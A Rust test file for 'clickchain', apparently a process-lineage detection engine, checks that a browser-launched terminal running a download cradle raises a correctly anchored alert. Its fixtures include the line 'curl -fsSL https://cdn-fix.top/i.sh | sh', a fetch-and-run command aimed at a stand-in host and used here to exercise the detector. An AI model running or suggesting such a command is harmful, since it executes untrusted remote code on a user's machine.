//! Process-start anchors: a download cradle in a link lineage is evaluated like a write for the
//! rules that read `cradle` (`docs/rules.md`), within the same bounds, and its alert names the
//! process.

#[path = "common/lines.rs"]
mod lines;

use clickchain::{Config, Engine, Record};
use clickchain_adapters::native::NativeReader;
use lines::{connect, Lines, T0};

const CRADLE: &str = r#"bash -c \"curl -fsSL https://cdn-fix.top/i.sh | sh\""#;

/// gnome-shell (100) -> firefox (300) -> xterm (310) -> bash (320, the cradle `cmd`) -> curl
/// (330, which reaches cdn-fix.top 300 ms after the cradle), all from `ms`.
fn cradle_from_browser(l: &mut Lines, ms: i64, bash: u32, cmd: &str) {
    let start = |l: &mut Lines, at: i64, pid: u32, parent: u32, image: &str, cmd: &str| {
        let body = format!(
            r#""kind":"process_start","proc":{pid},"parent":{parent},"image":"{image}","command_line":"{cmd}""#
        );
        l.at(at, "dev", "linux", &body);
    };
    if ms == 0 {
        l.at(0, "dev", "linux", r#""kind":"process_start","proc":100,"image":"/usr/bin/gnome-shell""#);
        start(l, 10, 300, 100, "/usr/lib/firefox/firefox", "/usr/lib/firefox/firefox");
        start(l, 20, 310, 300, "/usr/bin/xterm", "xterm");
    }
    start(l, ms + 100, bash, 310, "/usr/bin/bash", cmd);
    start(l, ms + 200, bash + 10, bash, "/usr/bin/curl", "curl -fsSL https://cdn-fix.top/i.sh");
    connect(l, ms + 400, "dev", bash + 10, "198.51.100.90", Some("cdn-fix.top"));
}

fn run(rules: &[&str], lines: &Lines, max_pending: Option<usize>) -> (Vec<Record>, clickchain::Stats) {
    let mut config = Config::default();
    config.rules.enabled = rules.iter().map(|r| r.to_string()).collect();
    if let Some(cap) = max_pending {
        config.engine.max_pending_per_host = cap;
    }
    let mut engine = Engine::new(config).expect("engine");
    engine.set_now(lines::time(lines.newest() + 60_000));
    for event in NativeReader::new("t.ndjson", lines.text().as_bytes()) {
        engine.push(event.expect("valid line"));
    }
    engine.finish();
    (engine.drain(), engine.stats().clone())
}

fn alerts(records: &[Record]) -> Vec<&clickchain::alert::Alert> {
    records.iter().filter_map(|r| if let Record::Alert(a) = r { Some(&**a) } else { None }).collect()
}

#[test]
fn a_cradle_alert_names_the_process_and_carries_its_command_line() {
    let mut l = Lines::default();
    cradle_from_browser(&mut l, 0, 320, CRADLE);
    // The same image runs again later: no follow-on, the alert's "file" is no download.
    l.at(
        30_000,
        "dev",
        "linux",
        r#""kind":"process_start","proc":400,"parent":310,"image":"/usr/bin/bash","command_line":"bash""#,
    );
    let (records, stats) = run(&["chain", "terminal-cradle"], &l, None);
    let found = alerts(&records);
    assert_eq!(found.len(), 1, "{records:?}");
    let a = found[0];
    assert_eq!((a.rule.as_str(), a.anchor), ("terminal-cradle", clickchain::alert::Anchor::Process));
    assert_eq!(a.write.path, "/usr/bin/bash");
    assert_eq!(a.time.timestamp_millis(), T0 + 100);
    let shell = a.processes.iter().find(|p| p.image == "/usr/bin/bash").expect("the cradle's process");
    assert_eq!(shell.command_line.as_deref(), Some(CRADLE.replace(r#"\""#, "\"").as_str()));
    assert!(a.reasons.iter().any(|r| r.starts_with("medium: the egress came 0.3 s after the download cradle started")));
    let roles: Vec<&str> = a.evidence_by_role.iter().map(|e| e.role.as_str()).collect();
    assert!(!roles.contains(&"write") && roles.contains(&"egress"), "{roles:?}");
    let json = records[0].to_json();
    assert!(json.contains(r#""anchor":"process""#), "{json}");
    assert!(records[0].to_text().contains("  start   "), "{}", records[0].to_text());
    assert!(!records.iter().any(|r| matches!(r, Record::FollowOn(_))));
    assert_eq!((stats.classified.anchor_processes, stats.classified.anchor_writes), (1, 0));
}

#[test]
fn a_write_alert_has_no_anchor_field() {
    let mut l = Lines::default();
    lines::linux_chain(&mut l, 0, "dev", "/home/bob/Downloads/q3.sh");
    let (records, _) = run(&["chain"], &l, None);
    assert_eq!(alerts(&records).len(), 1);
    assert!(!records[0].to_json().contains("anchor"), "JSON of write alerts is unchanged");
}

#[test]
fn cradles_are_anchors_only_for_a_rule_that_reads_them() {
    let mut l = Lines::default();
    cradle_from_browser(&mut l, 0, 320, CRADLE);
    let (records, stats) = run(&["chain", "office-lolbin"], &l, None);
    assert!(alerts(&records).is_empty());
    assert_eq!(stats.classified.anchor_processes, 0);
    let mut plain = Lines::default();
    cradle_from_browser(&mut plain, 0, 320, "bash -c \\\"curl -o /tmp/a https://cdn-fix.top/a\\\"");
    let (records, stats) = run(&["terminal-cradle"], &plain, None);
    assert!(alerts(&records).is_empty(), "a download kept, not run, is no cradle");
    assert_eq!(stats.classified.anchor_processes, 0);
}

#[test]
fn cradle_anchors_share_the_pending_cap() {
    let mut l = Lines::default();
    cradle_from_browser(&mut l, 0, 320, CRADLE);
    cradle_from_browser(&mut l, 1_000, 520, CRADLE);
    let (_, stats) = run(&["terminal-cradle"], &l, Some(1));
    assert_eq!((stats.classified.anchor_processes, stats.dropped.pending_cap), (1, 1));
}

#[test]
fn whole_lineages_are_cut_and_counted() {
    // 70 shells between the terminal and the cradle: the lineage handed to the rules stops 64
    // generations up, so the terminal is not seen (counted, and no alert).
    let mut l = Lines::default();
    cradle_from_browser(&mut l, 0, 320, "bash");
    for i in 0..70u32 {
        let body = format!(
            r#""kind":"process_start","proc":{},"parent":{},"image":"/usr/bin/bash","command_line":"bash""#,
            1000 + i,
            if i == 0 { 320 } else { 999 + i }
        );
        l.at(200 + i64::from(i), "dev", "linux", &body);
    }
    let body = format!(
        r#""kind":"process_start","proc":2000,"parent":1069,"image":"/usr/bin/bash","command_line":"{CRADLE}""#
    );
    l.at(1_000, "dev", "linux", &body);
    l.at(
        1_100,
        "dev",
        "linux",
        r#""kind":"process_start","proc":2010,"parent":2000,"image":"/usr/bin/curl","command_line":"curl""#,
    );
    connect(&mut l, 1_300, "dev", 2010, "198.51.100.90", Some("cdn-fix.top"));
    let (records, stats) = run(&["terminal-cradle"], &l, None);
    assert!(alerts(&records).is_empty());
    assert!(stats.anomalies.lineage_truncated >= 1);
    let (_, stats) = run(&["chain"], &l, None);
    assert_eq!(stats.anomalies.lineage_truncated, 0, "the base rule needs only the link root");
}
